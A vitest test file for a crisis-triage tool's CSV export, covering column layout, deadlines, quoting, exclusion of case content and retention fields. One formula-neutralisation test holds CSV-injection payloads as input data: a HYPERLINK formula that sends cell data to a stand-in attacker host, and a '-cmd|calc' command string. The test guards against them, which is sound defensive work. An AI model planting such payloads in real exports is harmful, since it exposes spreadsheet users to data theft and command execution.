import { describe, expect, it } from 'vitest';
import { CSV_HEADER, CSV_HEADER_LINE, csvLine, escalationsToCsv, escalationToCsvRow } from '../../src/triage/csv.js';
import type { TimelineEvent } from '../../src/triage/types.js';
import { after, claimedEscalation, escalation, isoAfter, KENJI, MAYA, MINUTE, resolvedEscalation } from './fixtures.js';

/** A strict RFC 4180 reader, so the tests check what a spreadsheet would actually see. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"' && field === '') quoted = true;
    else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 1;
    } else field += char;
  }
  if (field !== '' || record.length > 0) throw new Error('last record not CRLF-terminated');
  return records;
}

function asRecord(row: string): Record<string, string> {
  const [cells] = parseCsv(row);
  expect(cells).toHaveLength(CSV_HEADER.length);
  return Object.fromEntries(CSV_HEADER.map((column, index) => [column, cells![index]!]));
}

function events(...list: Omit<TimelineEvent, 'seq'>[]): TimelineEvent[] {
  return list.map((event, index) => ({ ...event, seq: index + 1 }));
}

describe('CSV export', () => {
  it('has as many header columns as row cells, each line ending in CRLF', () => {
    expect(CSV_HEADER_LINE.endsWith('\r\n')).toBe(true);
    expect(parseCsv(CSV_HEADER_LINE)).toEqual([CSV_HEADER]);
    const row = escalationToCsvRow(escalation());
    expect(row.endsWith('\r\n')).toBe(true);
    expect(row.slice(0, -2)).not.toMatch(/[\r\n]/);
    expect(parseCsv(row)[0]).toHaveLength(CSV_HEADER.length);
  });

  it('exports a fully resolved case with every timestamp, duration and verdict', () => {
    const resolved = resolvedEscalation({
      timeline: events(
        { type: 'created', at: isoAfter(0), actor: 'system' },
        { type: 'claimed', at: isoAfter(MINUTE), actor: MAYA },
        { type: 'note', at: isoAfter(2 * MINUTE), actor: MAYA, text: 'Called the platform liaison.' },
        { type: 'paged', at: isoAfter(3 * MINUTE), actor: MAYA, target: KENJI },
        { type: 'note', at: isoAfter(4 * MINUTE), actor: KENJI, text: 'On it.' },
        { type: 'resolved', at: isoAfter(20 * MINUTE), actor: MAYA, outcome: 'wellness_check' },
      ),
    });
    const row = asRecord(
      escalationToCsvRow(resolved, {
        categoryLabel: (id) => (id === 'self_harm' ? 'Self-harm' : undefined),
        outcomeLabel: (id) => (id === 'wellness_check' ? 'Wellness check requested' : undefined),
      }),
    );
    expect(row).toEqual({
      id: 'ESC-1042',
      external_id: 'CASE-778899',
      team: 'emergency',
      category: 'self_harm',
      // Starts with neither = + - @: no apostrophe, even with a hyphen inside.
      category_label: 'Self-harm',
      market: 'IE',
      language: 'en',
      severity: 'critical',
      imminence: 'immediate',
      priority: 'P0',
      source: 'api',
      state: 'resolved',
      assignee: MAYA,
      outcome: 'wellness_check',
      outcome_label: 'Wellness check requested',
      reported_at: '2026-12-25T08:55:00.000Z',
      created_at: '2026-12-25T09:00:00.000Z',
      claim_deadline: '2026-12-25T09:05:00.000Z',
      claimed_at: '2026-12-25T09:01:00.000Z',
      resolve_deadline: '2026-12-25T10:00:00.000Z',
      resolved_at: '2026-12-25T09:20:00.000Z',
      first_breach_at: '',
      // 09:01 − 09:00 = 60 s; 09:20 − 09:00 = 1,200 s.
      seconds_to_claim: '60',
      seconds_to_resolve: '1200',
      claimed_in_time: 'true',
      resolved_in_time: 'true',
      notes: '2',
      pages: '1',
      content: 'kept',
      content_purged_at: '',
      legal_hold_at: '',
    });
  });

  it('exports an open case with empty cells for what has not happened, and false once overdue', () => {
    const open = escalation({
      timeline: events(
        { type: 'created', at: isoAfter(0), actor: 'system' },
        { type: 'sla_warning', at: isoAfter(3 * MINUTE), actor: 'system', clock: 'claim' },
        { type: 'sla_breach', at: isoAfter(5 * MINUTE), actor: 'system', clock: 'claim', step: 0, target: MAYA },
        { type: 'paged', at: isoAfter(10 * MINUTE), actor: 'system', clock: 'claim', step: 1, target: KENJI },
        { type: 'escalated_to_lead', at: isoAfter(11 * MINUTE), actor: MAYA, target: 'U0LEAD0001' },
      ),
    });
    const undecided = asRecord(escalationToCsvRow(open));
    expect(undecided).toMatchObject({
      state: 'open',
      assignee: '',
      outcome: '',
      outcome_label: '',
      category_label: 'self_harm',
      claimed_at: '',
      resolved_at: '',
      first_breach_at: '2026-12-25T09:05:00.000Z',
      seconds_to_claim: '',
      seconds_to_resolve: '',
      claimed_in_time: '',
      resolved_in_time: '',
      notes: '0',
      // The breach page and the chain's next step; a hand-up to the lead is not counted as a page.
      pages: '2',
    });
    // At 09:30 the claim deadline (09:05) has passed but the resolve deadline (10:00) has not.
    const overdue = asRecord(escalationToCsvRow(open, { now: after(30 * MINUTE) }));
    expect(overdue.claimed_in_time).toBe('false');
    expect(overdue.resolved_in_time).toBe('');
  });

  it('says false for a claim after its deadline', () => {
    const late = asRecord(escalationToCsvRow(claimedEscalation({ claimedAt: isoAfter(6 * MINUTE) })));
    expect(late.claimed_in_time).toBe('false');
    expect(late.seconds_to_claim).toBe('360');
  });

  it('quotes fields with commas, quotes and line breaks, doubling the quotes', () => {
    expect(csvLine(['plain', 'a,b', 'say "hi"', 'two\nlines', 'cr\rhere'])).toBe('plain,"a,b","say ""hi""","two\nlines","cr\rhere"\r\n');
    const row = escalationToCsvRow(escalation({ externalId: 'MQ-1, "urgent"\r\nsecond line' }));
    expect(asRecord(row).external_id).toBe('MQ-1, "urgent"\r\nsecond line');
  });

  it('neutralises cells a spreadsheet would run as a formula', () => {
    expect(csvLine(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', 'a=b'])).toBe(`'=1+1,'+1,'-1,'@SUM(A1),'\tx,"'\rx",a=b\r\n`);
    const row = asRecord(
      escalationToCsvRow(escalation({ externalId: '=HYPERLINK("http://evil.example/?"&A1,"click")', source: '@queue', market: '+IE' }), {
        categoryLabel: () => '-cmd|calc',
      }),
    );
    expect(row.external_id).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(row.source).toBe(`'@queue`);
    expect(row.market).toBe(`'+IE`);
    expect(row.category_label).toBe(`'-cmd|calc`);
  });

  it('never exports case content: summary, resolution note, note text or case link', () => {
    const resolved = resolvedEscalation({
      summary: 'SECRET-SUMMARY',
      resolutionNote: 'SECRET-RESOLUTION',
      caseUrl: 'https://cases.example.com/c/SECRET-LINK',
      timeline: events({ type: 'note', at: isoAfter(MINUTE), actor: MAYA, text: 'SECRET-NOTE' }),
    });
    expect(escalationToCsvRow(resolved)).not.toMatch(/SECRET/);
  });

  it('says a purged case\'s content was purged under the retention policy, and since when it is held', () => {
    const row = asRecord(escalationToCsvRow({ ...resolvedEscalation(), purgedAt: '2027-03-26T00:00:00.000Z', legalHoldAt: '2026-12-26T00:00:00.000Z' }));
    expect(row).toMatchObject({ content: 'purged under the retention policy', content_purged_at: '2027-03-26T00:00:00.000Z', legal_hold_at: '2026-12-26T00:00:00.000Z' });
  });

  it('writes a whole export as the header and one row per case', () => {
    const text = escalationsToCsv([escalation({ id: 'ESC-1' }), resolvedEscalation({ id: 'ESC-2' })]);
    const records = parseCsv(text);
    expect(records).toHaveLength(3);
    expect(records[0]).toEqual(CSV_HEADER);
    expect(records.map((record) => record.length)).toEqual([CSV_HEADER.length, CSV_HEADER.length, CSV_HEADER.length]);
    expect(records.slice(1).map((record) => record[0])).toEqual(['ESC-1', 'ESC-2']);
  });
});
